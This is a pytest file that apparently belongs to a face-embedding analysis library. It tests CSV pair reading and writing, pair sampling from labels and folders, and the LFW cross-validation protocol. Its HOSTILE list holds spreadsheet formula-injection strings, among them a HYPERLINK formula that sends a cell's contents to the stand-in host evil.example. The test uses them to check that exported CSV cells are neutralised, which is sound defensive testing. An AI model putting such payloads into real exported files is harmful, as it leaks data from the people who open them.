"""Pairs from CSV, labels and folders, and LFW's protocol, each against a naive loop or figures made by hand."""

from __future__ import annotations

import csv as csv_module
import itertools

import numpy as np
import pytest

from embedkit.analysis.matching.pairs import (
    Pairs,
    folder_identities,
    identity_codes,
    lfw_protocol,
    pair_names,
    read_pairs,
    sample_pairs,
    write_pairs,
)
from embedkit.errors import ConfigError

NAMES = ["a/1.jpg", "a/2.jpg", "a/3.jpg", "b/1.jpg", "b/2.jpg", "c/1.jpg"]


def csv(tmp_path, text: str):
    path = tmp_path / "pairs.csv"
    path.write_text(text, "utf-8")
    return path


# --- CSV --------------------------------------------------------------------------------------------------


def test_csv(tmp_path):
    path = csv(
        tmp_path,
        "note,a,b,same\nx,a/1.jpg,a/2.jpg,1\n,a/2.jpg,a/3.jpg,TRUE\n,a/1.jpg,b/1.jpg,0\n,c/1.jpg,a/3.jpg,no\n",
    )
    pairs = read_pairs(path, NAMES)
    assert pairs.a.tolist() == [0, 1, 0, 5] and pairs.b.tolist() == [1, 2, 3, 2]
    assert pairs.same.tolist() == [True, True, False, False]
    # a/1, a/2 and a/3 are linked by genuine pairs, so both impostor pairs share that identity.
    assert pairs.identities.tolist() == [[0, 0], [0, 0], [0, 3], [5, 0]]


HOSTILE = ["=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx", "\n=x", "'=1+1", "''=1", "'x", "a;=1+1", 'a"b', "a,=1",
           '=HYPERLINK("http:evil.example?x="&A1,"judge").jpg', "a\t=1", " x ", "plain.jpg"]  # fmt: skip


def test_what_we_write_holds_no_formula_and_reads_back_to_the_same_ids(tmp_path):
    path, count = tmp_path / "pairs.csv", len(HOSTILE)
    a, b = np.arange(count), (np.arange(count) + 1) % count
    write_pairs(path, HOSTILE, (a, b, np.ones(count)))
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv_module.reader(file))
    assert rows[0] == ["a", "b", "cosine", "same"] and len(rows) == count + 1
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r\n")]
    # A spreadsheet of a country whose lists have semicolons splits there, unless the cell is in quotes.
    for separator in ";\t":
        with open(path, newline="", encoding="utf-8") as file:
            assert not [cell for row in csv_module.reader(file, delimiter=separator) for cell in row
                        if cell[:1] in tuple("=+-@")]  # fmt: skip
    with open(path, "w", newline="", encoding="utf-8") as file:  # judged, as a spreadsheet saves it
        writer = csv_module.writer(file)
        writer.writerows([rows[0], *([*row[:3], str(at % 2)] for at, row in enumerate(rows[1:]))])
    pairs = read_pairs(path, HOSTILE, identities=False)
    assert pairs.a.tolist() == a.tolist() and pairs.b.tolist() == b.tolist()
    assert set(pair_names(path)) == set(HOSTILE)


def test_an_apostrophe_that_a_person_wrote(tmp_path):
    path = csv(tmp_path, "a,b,same\n'=x,y,1\ny,'-z,0\n")
    pairs = read_pairs(path, ["'=x", "y", "-z"])
    assert pairs.a.tolist() == [0, 1] and pairs.b.tolist() == [1, 2]


def test_csv_with_a_byte_order_mark_and_windows_lines(tmp_path):
    path = csv(tmp_path, "\ufeffa,b,same\r\na/1.jpg,a/2.jpg,1\r\na/1.jpg,b/1.jpg,0\r\n")
    assert len(read_pairs(path, NAMES)) == 2


def test_names_and_several_of_one_row(tmp_path):
    path = csv(tmp_path, "a,b,same\nx,y,1\n./x,z,0\ny,z,0\n")
    assert pair_names(path) == ["x", "y", "./x", "z"]
    pairs = read_pairs(path, {"x": 0, "./x": 0, "y": 1, "z": 2})
    assert (pairs.a.tolist(), pairs.b.tolist()) == ([0, 0, 1], [1, 2, 2])
    assert pairs.identities.tolist() == [[0, 0], [0, 2], [0, 2]]
    with pytest.raises(ConfigError, match=r"line 3: './x' is paired with itself"):
        read_pairs(path, {"x": 0, "./x": 2, "y": 1, "z": 2})


def test_pairs_among_some_of_the_rows():
    everything = Pairs(
        np.array([0, 1, 4]),
        np.array([3, 4, 0]),
        np.array([True, False, True]),
        np.array([[0, 0], [1, 2], [2, 2]]),
    )
    some = everything.among(np.array([True, False, True, True, True]))  # rows 0, 2, 3, 4 are 0, 1, 2, 3 now
    assert (some.a.tolist(), some.b.tolist()) == ([0, 3], [2, 0])
    assert some.same.tolist() == [True, True] and some.identities.tolist() == [[0, 0], [2, 2]]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "expected the columns a, b and same .* found 'nothing"),
        ("a,b\nx,y\n", "expected the columns a, b and same .* found 'a, b"),
        ("a,b,same\n", "found 0 of one and 0 of two"),
        ("a,b,same\na/1.jpg,a/2.jpg,1\n", "found 1 of one and 0 of two"),
        ("a,b,same\na/1.jpg,b/1.jpg,0\na/1.jpg,b/2.jpg,0\n", "found 0 of one and 2 of two"),
        ("a,b,same\na/1.jpg,a/2.jpg,maybe\n", "line 2: same: expected 1 or 0, found 'maybe'"),
        ("a,b,same\na/1.jpg,a/2.jpg\n", "line 2: same: expected 1 or 0, found ''"),
        (
            "a,b,same\na/1.jpg,z.jpg,1\ny.jpg,b/1.jpg,0\n",
            "line 2: 'z.jpg' is not an id of the embeddings, and 1 more",
        ),
        ("a,b,same\na/1.jpg,a/1.jpg,1\na/1.jpg,b/1.jpg,0\n", "line 2: 'a/1.jpg' is paired with itself"),
        (
            "a,b,same\na/1.jpg,a/2.jpg,1\na/2.jpg,a/3.jpg,1\na/1.jpg,a/3.jpg,0\n",
            "line 4: 'a/1.jpg' and 'a/3.jpg' are labeled as different, but other lines make them one identity",
        ),
    ],
)
def test_bad_csv_is_one_sentence(tmp_path, text, message):
    with pytest.raises(ConfigError, match=message) as caught:
        read_pairs(csv(tmp_path, text), NAMES)
    assert "\n" not in str(caught.value)


def test_judgements_do_not_carry_over(tmp_path):
    text = "a,b,same\na/1.jpg,a/2.jpg,1\na/2.jpg,a/3.jpg,1\na/1.jpg,a/3.jpg,0\n"
    pairs = read_pairs(csv(tmp_path, text), NAMES, identities=False)
    assert pairs.identities.tolist() == [[0, 1], [1, 2], [0, 2]]


def test_a_file_that_is_no_csv(tmp_path):
    with pytest.raises(ConfigError, match="cannot be read as a CSV"):
        read_pairs(tmp_path / "missing.csv", NAMES)
    (tmp_path / "b.csv").write_bytes(b"\xff\xfe\x00a\x00")
    with pytest.raises(ConfigError):
        read_pairs(tmp_path / "b.csv", NAMES)


# --- labels and folders -----------------------------------------------------------------------------------


def naive(identities):
    return {
        (i, j): identities[i] == identities[j]
        for i, j in itertools.combinations(range(len(identities)), 2)
        if identities[i] and identities[j]
    }


def unordered(pairs):
    found = [tuple(sorted(p)) for p in zip(pairs.a.tolist(), pairs.b.tolist(), strict=True)]
    assert len(set(found)) == len(found), "a pair came twice"
    return dict(zip(found, pairs.same.tolist(), strict=True))


def test_all_pairs_where_they_are_few():
    identities = ["x", "y", "x", None, "z", "x", "y", "", "w"]
    pairs = sample_pairs(identities)
    assert unordered(pairs) == naive(identities)
    codes = identity_codes(identities)
    assert (pairs.identities == np.stack([codes[pairs.a], codes[pairs.b]], 1)).all()
    assert (pairs.same == (pairs.identities[:, 0] == pairs.identities[:, 1])).all()


@pytest.mark.parametrize("most", [20, 150, 250])
def test_a_sample_is_even_seeded_and_of_the_size_that_was_asked(most):
    rng = np.random.default_rng(3)
    identities = rng.choice(["a", "b", "c", "d"], 40, p=[0.6, 0.2, 0.15, 0.05]).tolist()
    truth = naive(identities)
    kinds = {kind: [pair for pair, same in truth.items() if same is kind] for kind in (True, False)}
    counts = dict.fromkeys(truth, 0)
    runs = 100
    for seed in range(runs):
        found = unordered(sample_pairs(identities, seed=seed, most=most))
        assert all(truth[pair] == same for pair, same in found.items())
        for kind, all_ in kinds.items():
            assert sum(same is kind for same in found.values()) == min(most, len(all_))
        for pair in found:
            counts[pair] += 1
    for all_ in kinds.values():
        chance = min(1.0, most / len(all_))
        spread = (runs * chance * (1 - chance)) ** 0.5
        assert max(abs(counts[pair] - runs * chance) for pair in all_) <= 4.5 * spread + 1e-9
    again = [sample_pairs(identities, seed=5, most=most) for _ in range(2)]
    assert (again[0].a == again[1].a).all() and (again[0].b == again[1].b).all()


def test_labels_that_make_no_pairs():
    for identities, message in (
        (["x", "x"], "found 1 identity of 2 images"),
        (["x", "y", None], "found 2 identities of 2 images"),
        ([None, ""], "found 0 identities"),
    ):
        with pytest.raises(ConfigError, match=message):
            sample_pairs(identities)


def test_codes():
    assert identity_codes([3, "x", None, 3, "", float("nan"), "x"]).tolist() == [0, 1, -1, 0, -1, -1, 1]
    assert identity_codes(np.array([7, 7, 2])).tolist() == [0, 0, 1]


def test_folders():
    assert folder_identities(["d/ann/1.jpg", "d/bob/1.jpg", "t.tar::ann/2.jpg"]) == [
        "d/ann",
        "d/bob",
        "t.tar/ann",
    ]
    with pytest.raises(ConfigError, match="'1.jpg' is not in a folder"):
        folder_identities(["ann/1.jpg", "1.jpg"])


# --- LFW --------------------------------------------------------------------------------------------------


def test_lfw_by_hand():
    # Two folds. On the second, every threshold in (0.4, 0.7) is right, so 0.55 is taken; on the first every one
    # in (0.3, 0.6), so 0.45. In the first fold 0.55 judges 0.6, 0.3 rightly: 2 of 2; in the second 0.45 judges
    # 0.7, 0.4 rightly: 2 of 2.
    scores, same = np.array([0.6, 0.3, 0.7, 0.4]), np.array([True, False, True, False])
    found = lfw_protocol(scores, same, 2)
    assert found.thresholds == pytest.approx([0.55, 0.45])
    assert (found.accuracy, found.standard_error) == (1.0, 0.0)
    # With 0.58 for 0.3 the first fold chooses 0.59, which is right on the second; 0.55 takes 0.58 for a match.
    found = lfw_protocol(np.array([0.6, 0.58, 0.7, 0.4]), same, 2)
    assert found.accuracies.tolist() == [
        0.5,
        1.0,
    ]
    assert found.thresholds == pytest.approx([0.55, 0.59])
    assert found.accuracy == 0.75 and found.standard_error == pytest.approx(0.5 / 2**0.5 / 2**0.5)


def test_lfw_against_a_loop():
    rng = np.random.default_rng(4)
    same = np.tile(np.repeat([True, False], 15), 10)
    scores = rng.normal(same * 1.5, 1).round(1)  # with equal scores
    found = lfw_protocol(scores, same)
    accuracies = []
    for fold in range(10):
        test = np.zeros(300, bool)
        test[fold * 30 : fold * 30 + 30] = True
        edges = np.unique(scores[~test])
        candidates = [edges[0] - 1, *((edges[1:] + edges[:-1]) / 2), edges[-1] + 1]
        right = [((scores[~test] >= t) == same[~test]).sum() for t in candidates]
        assert ((scores[~test] >= found.thresholds[fold]) == same[~test]).sum() == max(right)
        accuracies.append(((scores[test] >= found.thresholds[fold]) == same[test]).mean())
    assert found.accuracies == pytest.approx(accuracies)
    assert found.accuracy == pytest.approx(np.mean(accuracies))
    mean = np.mean(accuracies)
    deviation = (sum((value - mean) ** 2 for value in accuracies) / 9) ** 0.5
    assert found.standard_error == pytest.approx(deviation / 10**0.5)


def test_lfw_folds_may_be_named():
    rng = np.random.default_rng(5)
    same = rng.random(60) < 0.5
    scores = rng.normal(same, 1)
    order = rng.permutation(60)
    folds = np.repeat(np.arange(3), 20)
    a, b = lfw_protocol(scores, same, folds), lfw_protocol(scores[order], same[order], folds[order])
    assert (
        a.accuracies == pytest.approx(b.accuracies) and a.accuracy == lfw_protocol(scores, same, 3).accuracy
    )


def test_bad_folds():
    scores, same = np.arange(10.0), np.arange(10) % 2 == 0
    for folds, message in (
        (1, "from 2 on"),
        (3, "divides the 10 pairs"),
        (np.zeros(10, int), "at least 2, found 1"),
    ):
        with pytest.raises(ConfigError, match=message):
            lfw_protocol(scores, same, folds)
    with pytest.raises(ConfigError, match="fold 0: .* found 5 of one and 0 of two"):
        lfw_protocol(scores, np.arange(10) < 5, 2)
